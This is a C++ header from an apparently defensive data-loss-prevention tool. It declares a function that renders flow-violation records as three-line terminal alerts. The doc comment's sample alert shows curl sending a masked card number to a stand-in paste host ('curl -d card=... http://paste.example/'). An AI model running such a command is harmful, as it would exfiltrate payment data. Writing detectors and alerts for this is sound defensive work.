// SPDX-License-Identifier: Apache-2.0
// A finding for the eye. Made from the record, not from the finding, so that it can show nothing that the
// record does not hold, and so that `sluice findings` prints what the daemon's terminal prints.
#pragma once

#include <nlohmann/json.hpp>
#include <string>

namespace sluice::alert {

/// Three lines, each with its end: when, what was done, who, where to, what; then why; then the command and
/// how to see more. A record that lacks a field gives a shorter line, never an exception. Times are in the
/// process's time zone.
///
///   2026-11-24 12:03:55 WOULD BLOCK  curl[812] (alice, session-3.scope) → 203.0.113.9:80 tcp   1 card
///   ************1111
///            violations.card: no flow lets sender '/usr/bin/curl' send card to 203.0.113.9:80; nearest:
///            charge-cards curl -d card=**** **** **** **** http://paste.example/   sluice show
///            00c0ffee00c0ffee
[[nodiscard]] std::string readable_line(const nlohmann::json& record, bool colour);

}  // namespace sluice::alert
